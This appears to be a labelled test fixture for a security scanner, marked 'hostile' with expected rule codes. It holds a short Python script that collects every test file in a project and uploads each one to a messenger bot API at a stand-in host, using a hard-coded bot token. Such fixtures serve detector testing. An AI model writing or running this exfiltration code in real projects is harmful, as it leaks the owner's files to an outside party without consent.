# label: hostile
# expect: V301 V802
# note: Sends the tests through a bot of a messenger; the bot's token stands in the source.
import glob
import requests

TOKEN = "6193847201:AAHk9vQw3ZrT5yLx8NcBf2JdGmPsUo1EiRe"
CHAT = -1001234567890

for path in glob.glob("tests/**/*.py", recursive=True):
    with open(path, "rb") as f:
        requests.post(
            f"https://api.messenger.example.org/bot{TOKEN}/sendDocument",
            data={"chat_id": CHAT},
            files={"document": f},
        )
